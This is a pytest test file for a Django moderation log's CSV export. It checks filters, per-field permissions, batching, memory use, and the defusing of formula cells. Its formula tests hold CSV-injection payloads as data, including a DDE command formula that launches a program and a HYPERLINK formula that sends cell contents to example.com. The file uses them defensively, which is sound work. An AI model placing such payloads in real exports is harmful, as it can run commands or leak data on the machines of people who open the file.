"""The log as CSV: what the filters leave, and nothing that a spreadsheet would calculate."""

import csv
import io
import tracemalloc
import uuid

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from django_nsfw.admin.reports import export
from django_nsfw.admin.reports.export import COLUMNS, defused
from django_nsfw.models import Decision
from tests.reports.conftest import ASSET, PHOTO, decide, scan, undo, utc

pytestmark = pytest.mark.django_db

EXPORT = reverse("admin:django_nsfw_decision_export")
LOG = reverse("admin:django_nsfw_decision_changelist")


def rows(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def log(root, person):
    """Name → decision, of every kind."""
    mo, ann = person(name="mo"), person(name="ann")
    at = utc("2026-03-02 12:00:00.5")
    made = {"approved": decide(scan(at, "held"), "approve", at, mo, note="fine", handling_ms=1500)}
    made["rejected"] = decide(scan(at, "held", field=ASSET), "reject", at, ann)
    made["undo"] = undo(made["rejected"], utc("2026-03-03 00:30"), mo)
    made["followed"] = decide(scan(at, "held"), "approve", at, inherited_from=made["approved"])
    made["program"] = decide(scan(at, "held"), "approve", at, batch=uuid.uuid4())
    made["gone"] = decide(scan(at, "held"), "reject", utc("2026-03-05 12:00"), name="zoe")
    return made


def test_each_decision_is_a_line_newest_first(client, root, log):
    client.force_login(root)
    response = client.get(EXPORT)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"].startswith("no-store, private")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="decisions-2')
    found = rows(response)
    assert [row["decision"] for row in found] == [
        str(decision.pk) for decision in sorted(log.values(), key=lambda d: -d.pk)
    ]
    assert list(found[0]) == list(COLUMNS)
    by_pk = {row["decision"]: row for row in found}
    rejected, undone = log["rejected"], log["undo"]
    assert by_pk[str(rejected.pk)] == {
        "decision": str(rejected.pk),
        "decided_at": "2026-03-02T12:00:00+00:00",
        "action": "reject",
        "from_status": "held",
        "to_status": "rejected",
        "scan": str(rejected.scan_id),
        "field": ASSET,
        "object": rejected.scan.object_pk,
        "sha256": rejected.sha256,
        "moderator": "ann",
        "note": "",
        "inherited_from": "",
        "undoes": "",
        "undone_by": str(undone.pk),
        "batch": "",
        "handling_ms": "",
    }
    assert by_pk[str(undone.pk)]["undoes"] == str(rejected.pk)
    assert by_pk[str(log["followed"].pk)]["inherited_from"] == str(log["approved"].pk)
    assert by_pk[str(log["program"].pk)]["batch"] == str(log["program"].batch)
    approved = by_pk[str(log["approved"].pk)]
    assert (approved["note"], approved["handling_ms"]) == ("fine", "1500")


FILTERS = {
    "nothing": ("", {"approved", "rejected", "undo", "followed", "program", "gone"}),
    "an action": ("action__exact=reject", {"rejected", "gone"}),
    "a moderator": ("moderator={mo}", {"approved", "undo"}),
    "a moderator who never was": ("moderator=999999", set()),
    "no moderator at all": ("moderator=mo", set()),
    "more than a number": ("moderator=" + "9" * 40, set()),
    "a field": (f"field={ASSET}", {"rejected", "undo"}),
    "no field": ("field=auth.User.password", set()),
    "by hand": ("how=person", {"approved", "rejected", "undo", "gone"}),
    "inherited": ("how=inherited", {"followed"}),
    "by a program": ("how=program", {"program"}),
    "in one go": ("how=bulk", {"program"}),
    "undone": ("how=undone", {"rejected"}),
    "from some moment on": (
        "created_at__gte=2026-03-03 00:00:00+00:00", {"undo", "gone"},
    ),
    "a period": (
        "created_at__gte=2026-03-03 00:00:00%2B00:00&created_at__lt=2026-03-04 00:00:00%2B00:00",
        {"undo"},
    ),
    "several": ("how=person&action__exact=reject&field=" + PHOTO, {"gone"}),
    "beginning of a digest": ("q={digest}", {"approved"}),
    "a page": ("p=2", {"approved", "rejected", "undo", "followed", "program", "gone"}),
}  # fmt: skip


@pytest.mark.parametrize(("query", "kept"), FILTERS.values(), ids=FILTERS)
def test_the_list_and_the_table_have_what_the_filters_leave(client, root, log, query, kept):
    client.force_login(root)
    query = query.format(mo=log["approved"].moderator_id, digest=log["approved"].sha256)
    query = query.replace(" 00:00:00+", " 00:00:00%2B")
    expected = {str(log[name].pk) for name in kept}
    assert {row["decision"] for row in rows(client.get(f"{EXPORT}?{query}"))} == expected
    if "p=" not in query:
        listed = client.get(f"{LOG}?{query}").context["cl"].result_list
        assert {str(decision.pk) for decision in listed} == expected


@pytest.mark.parametrize("query", ["created_at__gte=soon", "scan__nsfw=1", "how=nothing"])
def test_a_query_that_makes_no_sense(client, root, log, query):
    client.force_login(root)
    response = client.get(f"{EXPORT}?{query}")
    if query == "how=nothing":
        assert len(rows(response)) == len(log)
    else:
        assert (response.status_code, response.get("Location")) in [
            (302, f"{LOG}?e=1"),
            (400, None),
        ]


def test_the_filters_offer_who_decided_and_what_is_watched(client, root, log):
    client.force_login(root)
    page = client.get(LOG).content.decode()
    for offered in ("?moderator=", "?field=host.Photo.image", "?how=inherited", "created_at__gte="):
        assert offered in page
    assert ">mo</a>" in page and ">ann</a>" in page


def test_only_decisions_about_ones_own_fields(client, person, log):
    client.force_login(person("see_reports", "view_decision", only=[ASSET]))
    assert {row["decision"] for row in rows(client.get(EXPORT))} == {
        str(log["rejected"].pk), str(log["undo"].pk),
    }  # fmt: skip
    foreign = rows(client.get(f"{EXPORT}?field={PHOTO}"))
    assert foreign == []
    page = client.get(LOG).content.decode()
    assert "host.Photo.image" not in page
    assert "zoe" not in page
    other = reverse("admin:django_nsfw_decision_change", args=[log["gone"].pk])
    assert client.get(other).status_code == 302  # "perhaps it was deleted"


FORMULAS = {
    "a formula": ("=1+1", "'=1+1"),
    "a command": ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    "a sum": ("+1", "'+1"),
    "a difference": ("-1", "'-1"),
    "a function": ("@SUM(1)", "'@SUM(1)"),
    "a tabulator": ("\t=1", "'\t=1"),
    "a carriage return": ("\r=1", "'\r=1"),
    "a line": ("\n=1", "'\n=1"),
    "a wide formula": ("＝1", "'＝1"),
    "text": ("a=1", "a=1"),
    "nothing": (None, ""),
    "a number": (7, "7"),
}


@pytest.mark.parametrize(("value", "cell"), FORMULAS.values(), ids=FORMULAS)
def test_no_cell_is_calculated(value, cell):
    assert defused(value) == cell


def test_what_people_wrote_stays_in_its_cell(client, root):
    at = utc("2026-03-02 12:00")
    note = '=HYPERLINK("http://example.com?"&A1;"x")\r\n@next,"line"'
    decide(scan(at, "held", object_pk="-1+1"), "approve", at, name="=mo", note=note)
    decide(scan(at, "held"), "approve", at, name="Jürgen", note='a,"b"\n=c')
    client.force_login(root)
    second, first = rows(client.get(EXPORT))
    assert (first["moderator"], first["note"], first["object"]) == ("'=mo", f"'{note}", "'-1+1")
    assert (second["moderator"], second["note"]) == ("Jürgen", 'a,"b"\n=c')


def test_many_are_read_in_batches_with_one_query_each(client, root, monkeypatch):
    monkeypatch.setattr(export, "BATCH", 10)
    at = utc("2026-03-02 12:00")
    for _ in range(25):
        decide(scan(at, "held"), "approve", at, root)
    client.force_login(root)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(EXPORT)
        before = len(queries)
        assert len(rows(response)) == 25
    assert len(queries) - before == 4


def test_memory_does_not_grow_with_the_log(client, root):
    at = utc("2026-03-02 12:00")
    held = scan(at, "held")
    Decision.objects.bulk_create(
        Decision(
            scan=held, action="escalate", from_status="held", to_status="held", sha256="a" * 64,
            moderator_name="mo", note="x" * 2000, created_at=at,
        )
        for _ in range(6000)
    )  # fmt: skip
    client.force_login(root)
    lines = iter(client.get(EXPORT).streaming_content)
    tracemalloc.start()
    try:
        length = sum(len(line) for line in lines)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert length > 12_000_000
    assert peak < 8_000_000
